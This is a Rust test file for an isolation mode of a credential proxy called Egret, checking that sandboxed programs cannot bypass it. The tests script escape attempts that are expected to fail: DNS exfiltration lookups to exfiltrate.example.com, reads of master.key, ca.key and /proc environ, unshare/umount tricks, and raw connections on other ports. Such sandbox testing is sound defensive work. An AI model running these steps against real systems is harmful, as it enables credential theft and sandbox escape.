//! `egret run --isolate`: whatever the program does, it goes through Egret or it goes nowhere.

use std::process::Stdio;

use tokio::io::AsyncReadExt as _;
use tokio::net::TcpListener;
use tokio::process::Command;

use crate::needs::{Need, may_make_namespace, needs, skipped};
use crate::world::{
    EGRET, HOST, Output, SLUG, VALUE, World, finish, one_upstream, one_upstream_with,
};
use crate::{eventually, within};

/// Returns from a test where the machine allows no namespaces.
macro_rules! needs_isolation {
    ($($need:expr),*) => {
        needs!(Need::Program("unshare") $(, $need)*);
        if !may_make_namespace() {
            return skipped("user namespaces");
        }
    };
}
pub(super) use needs_isolation;

pub(super) async fn isolated(world: &World, options: &[&str], command: &[&str]) -> Output {
    let args = [&["run", "--isolate"], options, &["--"], command].concat();
    world.run(&args).await
}

pub(super) async fn shell(world: &World, script: &str) -> Output {
    isolated(world, &[], &["sh", "-c", script]).await
}

/// Runs Python without any proxy variable.
pub(super) async fn python(world: &World, options: &[&str], script: &str) -> Output {
    let script = format!("import os, socket, sys\n{script}");
    isolated(world, options, &["python3", "-c", &script]).await
}

#[tokio::test]
async fn what_ignores_the_variables_goes_through_egret_all_the_same() {
    needs_isolation!(Need::Program("curl"));
    let (world, stub) = one_upstream().await;
    let script = format!(
        "set -e; unset HTTPS_PROXY https_proxy ALL_PROXY all_proxy; \
         for v in -4 -6; do curl $v -sS -H 'X-Api-Key: <<{SLUG}>>' https://{HOST}/direct; done; \
         curl -sS --http2 -H 'X-Api-Key: <<{SLUG}>>' https://{HOST}/direct; \
         curl -sS --resolve {HOST}:443:203.0.113.9 -H 'X-Api-Key: <<{SLUG}>>' https://{HOST}/direct; \
         env | grep -c '{VALUE}' || true"
    );
    assert_eq!(shell(&world, &script).await.ok(), "okokokok0\n");
    let seen = stub.take();
    assert_eq!(seen.len(), 4);
    for request in seen {
        assert_eq!(request.header("x-api-key").as_deref(), Some(VALUE));
    }
    let used = world
        .ledger_line("a use", |line| line["event"] == "use")
        .await;
    assert_eq!(used["action"], "sh");
    assert!(
        used["client"]
            .as_str()
            .is_some_and(|client| client.starts_with("run-"))
    );
    // With the variables it is an ordinary client of the proxy.
    let proxied = format!("curl -sS -H 'X-Api-Key: <<{SLUG}>>' https://{HOST}/proxied");
    assert_eq!(shell(&world, &proxied).await.ok(), "ok");
    assert_eq!(stub.take_one().header("x-api-key").as_deref(), Some(VALUE));
}

#[tokio::test]
async fn plain_http_goes_where_its_host_says() {
    needs_isolation!(Need::Program("curl"));
    let (world, stub) = World::plain_upstream().await;
    world
        .save(
            SLUG,
            VALUE,
            &["--host", &format!("http://{HOST}"), "--in", "header"],
        )
        .await;
    let script = format!(
        "unset http_proxy HTTP_PROXY ALL_PROXY all_proxy; \
         curl -sS -H 'X-Api-Key: <<{SLUG}>>' http://{HOST}/plain; \
         curl -sS -o /dev/null -w '%{{http_code}}' -H 'Host:' http://{HOST}/nameless; \
         curl -sS -o /dev/null -w '%{{http_code}}' -H 'Host: {HOST}:81' http://{HOST}/port"
    );
    assert_eq!(shell(&world, &script).await.ok(), "ok400421");
    assert_eq!(stub.take_one().header("x-api-key").as_deref(), Some(VALUE));
}

#[tokio::test]
async fn clients_of_several_languages_arrive_without_knowing_of_a_proxy() {
    needs_isolation!(Need::Program("python3"), Need::Node);
    let (world, stub) = one_upstream().await;
    // http.client of Python reads no proxy variable.
    let script = format!(
        "import http.client\n\
         c = http.client.HTTPSConnection('{HOST}')\n\
         c.request('GET', '/python', headers={{'X-Api-Key': '<<{SLUG}>>'}})\n\
         sys.stdout.write(c.getresponse().read().decode())"
    );
    assert_eq!(python(&world, &[], &script).await.ok(), "ok");
    assert_eq!(stub.take_one().header("x-api-key").as_deref(), Some(VALUE));
    let node = crate::needs::client_file("npm/node");
    let script = format!(
        "delete process.env.NODE_USE_ENV_PROXY; \
         require('https').get({{host: '{HOST}', path: '/node', agent: new (require('https').Agent)(), \
         headers: {{'X-Api-Key': '<<{SLUG}>>'}}}}, r => r.pipe(process.stdout))"
    );
    let node = node.to_str().expect("text");
    let command = ["env", "-u", "NODE_USE_ENV_PROXY", node, "-e", &script];
    assert_eq!(isolated(&world, &[], &command).await.ok(), "ok");
    assert_eq!(stub.take_one().header("x-api-key").as_deref(), Some(VALUE));
}

#[tokio::test]
async fn everything_else_is_refused_at_once() {
    needs_isolation!(Need::Program("python3"));
    let (world, stub) = one_upstream().await;
    let script = r#"
import ssl, time
began = time.monotonic()
def fails(name, ask):
    try:
        ask()
    except OSError as error:
        print(name, "refused")
    else:
        print(name, "WENT THROUGH")
def tcp(port, host="203.0.113.7"):
    socket.create_connection((host, port), timeout=20).close()
def quic():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(20)
    s.connect(("203.0.113.7", 443))
    s.send(b"\xc3" + b"\0" * 1199)
    s.recv(1)
def ping():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.settimeout(1)
    s.connect(("203.0.113.7", 0))
    s.send(b"\x08\0\0\0\0\0\0\0")
    s.recv(1)
def nameless():
    context = ssl._create_unverified_context()
    with socket.create_connection(("203.0.113.7", 443), timeout=20) as s:
        context.wrap_socket(s)
def ssh():
    with socket.create_connection(("203.0.113.7", 443), timeout=20) as s:
        s.send(b"\0\1\2\3")
        if s.recv(1) == b"":
            raise OSError
fails("ssh port", lambda: tcp(22))
fails("other port, IPv6", lambda: tcp(8443, "2001:db8::7"))
fails("QUIC", quic)
fails("ICMP", ping)
fails("TLS without a name", nameless)
fails("another protocol", ssh)
names = {socket.gethostbyname(f"{n}.exfiltrate.example.com") for n in ("stolen", "secret")}
print("names", names)
assert time.monotonic() - began < 30
"#;
    let output = python(&world, &[], script).await.ok();
    let expected = "ssh port refused\nother port, IPv6 refused\nQUIC refused\nICMP refused\n\
        TLS without a name refused\nanother protocol refused\nnames {'198.18.0.1'}\n";
    assert_eq!(output, expected);
    assert_eq!(stub.take().len(), 0);
}

#[tokio::test]
async fn the_program_cannot_widen_what_it_may_use() {
    needs_isolation!();
    let (world, _stub) = one_upstream().await;
    let data = world.data.display();
    let script = format!(
        "ls -A {data} | sort | tr '\\n' ' '; \
         cat {data}/master.key {data}/egret.db {data}/ca.key 2>/dev/null | wc -c; \
         touch {data}/x 2>/dev/null && echo written; \
         {EGRET} credential allow {SLUG} --host evil.example >/dev/null 2>&1 && echo allowed; \
         {EGRET} ca path >/dev/null 2>&1; \
         umount {data} 2>/dev/null && echo uncovered; \
         unshare --user --map-root-user --mount sh -c 'umount {data}' 2>/dev/null && echo uncovered; \
         cat /proc/{}/environ 2>/dev/null | wc -c; \
         ls /proc/{}/root/ 2>/dev/null | wc -l; true",
        world.pid(),
        world.pid(),
    );
    let said = shell(&world, &script).await.ok();
    let (shown, rest) = said.split_once("0\n").unwrap_or_else(|| panic!("{said}"));
    let expected = [
        ".empty",
        ".empty.json",
        ".resolv.conf",
        "ca-bundle.apt.conf",
        "ca-bundle.hgrc",
        "ca-bundle.jks",
        "ca-bundle.pem",
        "ca-bundle.php.d",
        "ca-bundle.wgetrc",
        "ca.pem",
    ];
    let shown: Vec<&str> = shown.split_whitespace().collect();
    assert_eq!(shown, expected, "{said}");
    assert_eq!(rest, "0\n0\n", "{said}");
    let limits = world.run(&["credential", "show", SLUG]).await.ok();
    assert!(!limits.contains("evil"), "{limits}");
}

#[tokio::test]
async fn this_machines_ports_are_reached_only_where_asked_for() {
    needs_isolation!(Need::Program("python3"));
    let (world, _stub) = one_upstream().await;
    let service = TcpListener::bind("127.0.0.1:0").await.expect("a port");
    let port = service.local_addr().expect("an address").port();
    let script = format!(
        "try:\n    socket.create_connection(('127.0.0.1', {port}), timeout=20).send(b'hello')\n    print('sent')\n\
         except OSError:\n    print('refused')"
    );
    assert_eq!(python(&world, &[], &script).await.ok(), "refused\n");
    let number = port.to_string();
    assert_eq!(
        python(&world, &["--host-port", &number], &script)
            .await
            .ok(),
        "sent\n"
    );
    let (mut stream, _) = within("a connection", service.accept())
        .await
        .expect("accepted");
    let mut text = Vec::new();
    within("what was sent", stream.read_to_end(&mut text))
        .await
        .expect("read");
    assert_eq!(text, b"hello");
    let own = isolated(
        &world,
        &["--host-port", &world.admin.port().to_string()],
        &["true"],
    )
    .await;
    assert!(own.stderr.contains("Egret's own"), "{own:#?}");
}

#[tokio::test]
async fn one_host_more_is_reached_by_tcp_and_that_is_recorded() {
    needs_isolation!(Need::Program("python3"));
    let service = TcpListener::bind("127.0.0.1:0").await.expect("a port");
    let address = service.local_addr().expect("an address");
    let builder = World::builder().route("db.example.test:5432", address);
    let (world, _stub) = one_upstream_with(builder).await;
    let script = "def ask(host, port):\n    \
        try:\n        s = socket.create_connection((host, port), timeout=20)\n        \
            s.sendall(b'query')\n        s.shutdown(socket.SHUT_WR)\n        \
            print(host, port, s.recv(9) or 'closed')\n    \
        except OSError:\n        print(host, port, 'refused')\n\
        ask('db.example.test', 5432)\nask('other.example.test', 5432)\nask('db.example.test', 5433)\n";
    let answering = tokio::spawn(async move {
        let (mut stream, _) = service.accept().await.expect("accepted");
        let mut text = Vec::new();
        stream.read_to_end(&mut text).await.expect("read");
        tokio::io::AsyncWriteExt::write_all(&mut stream, b"answer")
            .await
            .expect("written");
        text
    });
    let options = ["--allow-tcp", "db.example.test:5432"];
    let said = python(&world, &options, script).await.ok();
    let lines: Vec<&str> = said.lines().collect();
    assert_eq!(lines[0], "db.example.test 5432 b'answer'", "{said}");
    // Accepted by the kernel before it is known what was meant, and then closed.
    assert!(
        !lines[1].contains("answer") && lines[2].ends_with("refused"),
        "{said}"
    );
    let sent = within("the query", answering).await.expect("no panic");
    assert_eq!(sent, b"query");
    let line = world
        .ledger_line("a tunnel", |line| line["event"] == "tunnel.opened")
        .await;
    assert!(line.to_string().contains("db.example.test:5432"), "{line}");

    let rule = ["egress", "deny", "db.example.test:5432", "--yes"];
    world.run(&rule).await.ok();
    for (options, word) in [
        (options, "a rule for egress"),
        (["--allow-tcp", "db.example.test"], "HOST:PORT"),
        (["--allow-tcp", "db.example.test:443"], "leads to Egret"),
    ] {
        let refused = isolated(&world, &options, &["true"]).await;
        assert!(
            !refused.status.success() && refused.stderr.contains(word),
            "{refused:#?}"
        );
    }
}

#[tokio::test]
async fn the_program_is_who_it_was_and_ends_as_it_ends() {
    needs_isolation!();
    let (world, _stub) = one_upstream().await;
    let script = "id -u; id -g; pwd; cat; echo \"$A\" >&2; exit 7";
    let args = ["run", "--isolate", "--quiet", "--", "sh", "-c", script];
    let mut command = world.command(&args);
    command.env("A", "to standard error").stdin(Stdio::piped());
    let output = finish(command, b"from standard input").await;
    let (user, group) = (
        rustix::process::getuid().as_raw(),
        rustix::process::getgid().as_raw(),
    );
    let directory = std::fs::canonicalize(world.scratch()).expect("a path");
    let expected = format!(
        "{user}\n{group}\n{}\nfrom standard input",
        directory.display()
    );
    assert_eq!(output.stdout, expected);
    assert_eq!(output.stderr, "to standard error\n");
    assert_eq!(output.status.code(), Some(7));
    let missing = isolated(&world, &[], &["no-such-program"]).await;
    assert_eq!(missing.status.code(), Some(127), "{missing:#?}");
    let killed = shell(&world, "kill -TERM $$").await;
    assert_eq!(killed.status.code(), Some(143), "{killed:#?}");
}

#[tokio::test]
async fn when_egret_is_killed_there_is_no_way_out() {
    needs_isolation!(Need::Program("curl"));
    let (world, stub) = one_upstream().await;
    let done = world.scratch().join("done");
    let script = format!(
        "echo started; read line; curl -sS https://{HOST}/late >out 2>&1; echo $? >{}",
        done.display()
    );
    let mut command = world.command(&["run", "--isolate", "--", "sh", "-c", &script]);
    // Held open by the test, so that the program outlives `egret run`.
    let (reader, mut writer) = std::io::pipe().expect("a pipe");
    command.stdin(reader);
    let mut run = command.spawn().expect("egret run");
    let mut started = [0; 8];
    let mut stdout = run.stdout.take().expect("a pipe");
    within("the program", stdout.read_exact(&mut started))
        .await
        .expect("started");
    run.start_kill().expect("killed");
    within("the end", run.wait()).await.expect("a status");
    std::io::Write::write_all(&mut writer, b"\n").expect("a line");
    let status = eventually("curl to fail", || {
        let text = std::fs::read_to_string(&done).ok()?;
        text.trim().parse::<i32>().ok()
    });
    assert_ne!(status.await, 0);
    assert_eq!(stub.take().len(), 0);
}

/// Who runs the tests as another user than root has seen that in all of them.
#[tokio::test]
async fn a_user_without_privileges_is_isolated_as_well() {
    const NOBODY: u32 = 65_534;
    needs_isolation!(Need::Program("curl"), Need::Program("setpriv"));
    if !rustix::process::geteuid().is_root() {
        return;
    }
    let as_nobody = |program: &str| {
        let mut command = Command::new("setpriv");
        let user = NOBODY.to_string();
        command.args([
            "--reuid",
            &user,
            "--regid",
            &user,
            "--clear-groups",
            "--no-new-privs",
        ]);
        command.arg(program).stdin(Stdio::null());
        command.stdout(Stdio::piped()).stderr(Stdio::piped());
        command
    };
    let mut probe = as_nobody(EGRET);
    probe.arg("version");
    if !finish(probe, b"").await.status.success() {
        return skipped("a target directory that other users can read");
    }
    let (world, stub) = one_upstream().await;
    let home = tempfile::tempdir().expect("a directory");
    for name in ["egret.toml", "upstream-root.pem"] {
        let text = std::fs::read_to_string(world.scratch().join(name)).expect("readable");
        let (from, to) = (
            world.scratch().display().to_string(),
            home.path().display().to_string(),
        );
        let file = home.path().join(name);
        std::fs::write(&file, text.replace(&from, &to)).expect("written");
        std::os::unix::fs::chown(&file, Some(NOBODY), Some(NOBODY)).expect("given away");
    }
    std::os::unix::fs::chown(home.path(), Some(NOBODY), Some(NOBODY)).expect("given away");
    let egret = |args: &[&str]| {
        let mut command = as_nobody(EGRET);
        let config = home.path().join("egret.toml");
        command.args(args).env_clear().current_dir(home.path());
        command
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("HOME", home.path())
            .env("EGRET_CONFIG", config)
            .env("EGRET_DATA_DIR", home.path().join("data"));
        command
    };
    let mut add = egret(&["credential", "add", SLUG, "--host", HOST]);
    add.stdin(Stdio::piped());
    finish(add, VALUE.as_bytes()).await.ok();
    let script = format!(
        "unset HTTPS_PROXY https_proxy ALL_PROXY all_proxy; id -u; \
         curl -sS -H 'X-Api-Key: <<{SLUG}>>' https://{HOST}/nobody; \
         cat data/master.key 2>/dev/null; curl -sS --max-time 20 telnet://203.0.113.7:22 2>/dev/null || echo ' refused'"
    );
    let said = finish(egret(&["run", "--isolate", "--", "sh", "-c", &script]), b"").await;
    assert_eq!(said.ok(), format!("{NOBODY}\nok refused\n"));
    assert_eq!(stub.take_one().header("x-api-key").as_deref(), Some(VALUE));
}

#[tokio::test]
async fn where_namespaces_are_forbidden_nothing_runs_unless_it_may() {
    needs_isolation!();
    let (world, _stub) = one_upstream().await;
    // A user namespace in which no further one can be made.
    let inside = |when: &str| {
        let script = format!(
            "echo 0 >/proc/sys/user/max_user_namespaces; exec {EGRET} run {when} -- echo ran"
        );
        let mut command = Command::new("unshare");
        command
            .args(["--user", "--map-root-user", "sh", "-c", &script])
            .env("EGRET_CONFIG", world.scratch().join("egret.toml"))
            .env("EGRET_DATA_DIR", &world.data)
            .env("HOME", world.scratch())
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        finish(command, b"")
    };
    let refused = inside("--isolate").await;
    assert!(!refused.status.success(), "{refused:#?}");
    assert_eq!(refused.stdout, "");
    assert!(
        refused.stderr.contains("--isolate=try"),
        "{}",
        refused.stderr
    );
    let tried = inside("--isolate=try").await;
    assert_eq!(tried.stdout, "ran\n", "{tried:#?}");
    assert!(tried.stderr.contains("not isolated"), "{}", tried.stderr);
}
